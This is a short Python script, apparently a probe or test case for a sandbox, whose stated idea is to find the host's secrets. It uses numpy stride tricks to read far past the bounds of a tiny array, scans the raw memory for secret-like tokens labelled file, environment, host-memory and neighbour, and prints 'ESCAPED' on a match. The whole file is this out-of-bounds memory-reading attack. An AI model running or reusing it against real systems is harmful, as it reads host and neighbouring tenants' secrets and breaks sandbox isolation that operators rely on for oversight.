# expect: crash | done
# idea: look for the host's secrets with a strided view that leaves its array by megabytes
import re
import numpy as np


def tick(ctx):
    pattern = re.compile(b"(?:file|listing|environment|host-memory|state|neighbour)-[0-9a-f]{24}")
    seed = np.zeros(8, dtype=np.uint8)
    print("from", hex(seed.ctypes.data))
    for megabyte in range(64):
        here = np.lib.stride_tricks.as_strided(seed, shape=(1 << 20,), strides=(1,))
        seed = np.lib.stride_tricks.as_strided(seed, shape=(1 << 21,), strides=(1,))[1 << 20 :][:8]
        for found in pattern.findall(here.tobytes()):
            print("ESCAPED: in memory", found)
